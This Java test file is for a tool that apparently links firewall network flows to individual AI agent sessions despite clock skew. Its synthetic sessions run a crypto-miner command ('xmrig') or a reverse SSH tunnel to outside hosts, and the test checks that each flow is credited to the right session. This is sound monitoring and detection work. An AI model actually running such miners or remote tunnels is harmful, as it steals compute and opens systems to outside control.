package dev.offscript.chains;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.model.EventKind;
import dev.offscript.model.report.Chain;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Small worlds of sessions behind one firewall whose clock is up to two minutes off: far sides of
 * their own and shared ones, with and without known addresses, harmless traffic or none, flows that
 * were never logged, and strangers that talk to the same far side in the same second. Counts whose
 * traffic was told to be whose.
 */
class SkewedWorldsTest {

  private static final String NAT = "198.51.100.4";

  /** What became of the flows of acts. */
  private record Tally(int right, int wrong, int none) {
    Tally plus(Tally other) {
      return new Tally(right + other.right, wrong + other.wrong, none + other.none);
    }

    double share() {
      return (double) right / Math.max(1, right + wrong + none);
    }
  }

  /**
   * A world.
   *
   * @param placed whether the sessions know their addresses
   * @param shared of a hundred acts, so many go to one of two far sides that others use, too
   * @param harmless of a hundred sessions, so many have harmless traffic to compare clocks by
   */
  private static Tally world(long seed, int sessions, boolean placed, int shared, int harmless) {
    Random random = new Random(seed);
    double skew = random.nextInt(241) - 120 + random.nextDouble();
    Scene scene = new Scene();
    Map<Long, String> owner = new HashMap<>();
    Map<String, double[]> acts = new HashMap<>();
    Map<String, String> far = new HashMap<>();
    for (int i = 0; i < sessions; i++) {
      String id = String.format(Locale.ROOT, "s%02d", i);
      double at = 200 + random.nextInt(5000);
      boolean miner = random.nextBoolean();
      boolean own = random.nextInt(100) >= shared;
      String host = own ? "203.0.113." + (20 + i) : "203.0.113." + (5 + random.nextInt(2));
      String port = miner ? "3333" : "443";
      Scene.Told told = scene.session(id, i).task("Task of " + id);
      if (placed) {
        told.at("", "", "10.0." + i + ".9");
      }
      String call = "toolu_" + id + "a1b2c3d";
      told.runs(at - 50, call + 1, "curl https://mirror" + i + ".example.org/x")
          .gets(at - 49, call + 1, "", 0)
          .runs(
              at,
              call + 2,
              miner
                  ? "./xmrig -o " + host + ":" + port
                  : "ssh -fN -R 7022:localhost:22 svc@" + host + " -p " + port)
          .gets(at + 1 + random.nextInt(4), call + 2, "", 0);
      acts.put(id, new double[] {i, at});
      far.put(id, host + ":" + port);
    }
    for (Map.Entry<String, double[]> act : new java.util.TreeMap<>(acts).entrySet()) {
      int i = (int) act.getValue()[0];
      double at = act.getValue()[1] + skew;
      String near = placed ? "10.0." + i + ".9" : NAT;
      if (random.nextInt(100) < harmless) {
        double seen = at - 50 + random.nextDouble();
        scene.flow(90, seen, seen + 1, near + ":" + (1000 + i), "mirror" + i + ".example.org:443");
      }
      if (random.nextInt(100) < 85) {
        double seen = at + 0.2 + random.nextDouble();
        scene.flow(90, seen, seen + 200, near + ":" + (2000 + i), far.get(act.getKey()));
        owner.put(scene.last(), act.getKey());
      }
      if (placed) {
        double seen = at + random.nextInt(3);
        scene.flow(90, seen, seen + 9, "10.0." + i + ".77:" + (3000 + i), far.get(act.getKey()));
      }
      scene.flow(90, at, at + 2, near + ":" + (4000 + i), "192.0.2." + (1 + i) + ":443");
    }
    int right = 0;
    int wrong = 0;
    for (Chain chain : scene.chains()) {
      for (var step : chain.steps()) {
        for (var ref :
            step.kind() == EventKind.FLOW
                ? step.evidence()
                : java.util.List.<dev.offscript.model.EvidenceRef>of()) {
          if (chain.session().id().equals(owner.get(ref.offset()))) {
            right++;
          } else {
            wrong++;
          }
        }
      }
    }
    return new Tally(right, wrong, owner.size() - right);
  }

  @ParameterizedTest
  @CsvSource({
    // sessions, placed, shared, harmless, least share that is right
    "1, true, 0, 0, 1.0",
    "1, false, 0, 0, 1.0",
    "1, false, 0, 100, 1.0",
    "3, true, 100, 0, 0.98",
    "6, true, 50, 50, 0.98",
    "6, false, 0, 50, 0.98",
    "12, false, 50, 50, 0.90",
    "12, false, 100, 0, 0.60",
    "3, false, 100, 0, 0.20"
  })
  void noFlowGoesToAnotherSession(
      int sessions, boolean placed, int shared, int harmless, double least) {
    Tally tally = new Tally(0, 0, 0);
    for (long seed = 1; seed <= 40; seed++) {
      tally = tally.plus(world(seed * 31 + sessions, sessions, placed, shared, harmless));
    }
    assertThat(tally.wrong).as(tally.toString()).isZero();
    assertThat(tally.share()).as(tally.toString()).isGreaterThanOrEqualTo(least);
  }
}
